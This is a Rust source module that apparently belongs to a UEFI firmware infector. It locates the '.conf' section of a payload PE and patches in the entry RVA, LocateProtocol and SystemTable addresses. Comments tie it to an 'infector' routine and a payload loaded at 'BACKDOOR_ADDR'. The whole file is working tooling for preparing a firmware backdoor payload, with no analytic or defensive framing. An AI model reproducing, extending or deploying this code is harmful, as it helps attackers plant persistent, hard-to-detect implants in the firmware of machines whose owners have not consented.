//! Config-section patcher. Locates the `.conf` section of a
//! payload PE and rewrites its fixed three-field record with
//! firmware-resolved addresses.

use crate::error::PatchError;
use crate::pe::PeImage;

pub const CONF_SECTION_NAME: &str = ".conf";
pub const CONF_RECORD_LEN: usize = 24;

/// `(entry_va, locate_protocol, system_table)`, little-endian on the wire.
pub type ConfRecord = (u64, u64, u64);

/// Returns the raw file offset of the `.conf` section.
pub fn find_conf_offset(pe: &PeImage) -> Result<u32, PatchError> {
    pe.section_starting_with(CONF_SECTION_NAME)
        .map(|s| s.pointer_to_raw_data)
        .ok_or(PatchError::NoConfSection)
}

pub fn read_conf(pe: &PeImage, data: &[u8]) -> Result<ConfRecord, PatchError> {
    let off = find_conf_offset(pe)? as usize;
    let rec = &data[off..off + CONF_RECORD_LEN];
    Ok((
        u64::from_le_bytes(rec[0..8].try_into().unwrap()),
        u64::from_le_bytes(rec[8..16].try_into().unwrap()),
        u64::from_le_bytes(rec[16..24].try_into().unwrap()),
    ))
}

/// Returns a fresh buffer with the `.conf` record replaced by `new_triple`.
pub fn write_conf(pe: &PeImage, data: &[u8], new_triple: ConfRecord) -> Result<Vec<u8>, PatchError> {
    let off = find_conf_offset(pe)? as usize;
    let mut out = data.to_vec();
    out[off..off + 8].copy_from_slice(&new_triple.0.to_le_bytes());
    out[off + 8..off + 16].copy_from_slice(&new_triple.1.to_le_bytes());
    out[off + 16..off + 24].copy_from_slice(&new_triple.2.to_le_bytes());
    Ok(out)
}

/// Validates the flat-layout invariant, computes `entry_rva`, and patches
/// the `.conf` record with `(entry_rva, locate_protocol, system_table)`.
/// The rewritten `entry_rva` is a design choice carried from
/// `original_source/python/uefi.py::infector_get_image`: the payload, once
/// loaded at `BACKDOOR_ADDR`, reads its own config to find all three values
/// without further relocation.
///
/// `entry_rva` is derived from the optional header's own
/// `AddressOfEntryPoint` (`PeImage::entry_point_rva`), not by re-reading the
/// `.conf` record's first field and subtracting `ImageBase`: once patched,
/// that field holds `entry_rva` rather than the original absolute
/// `entry_va`, so recomputing from it on a second call would underflow.
/// The header field is untouched by `write_conf` and stays correct across
/// repeated patching, which is what makes this function idempotent.
pub fn prepare_payload(
    data: &[u8],
    locate_protocol: u64,
    system_table: u64,
) -> Result<(Vec<u8>, u32, u32), PatchError> {
    let pe = PeImage::parse(data)?;
    pe.check_flat_layout()?;

    let entry_rva = pe.entry_point_rva;
    let conf_rva = find_conf_offset(&pe)?;

    let patched = write_conf(&pe, data, (entry_rva as u64, locate_protocol, system_table))?;

    Ok((patched, entry_rva, conf_rva))
}
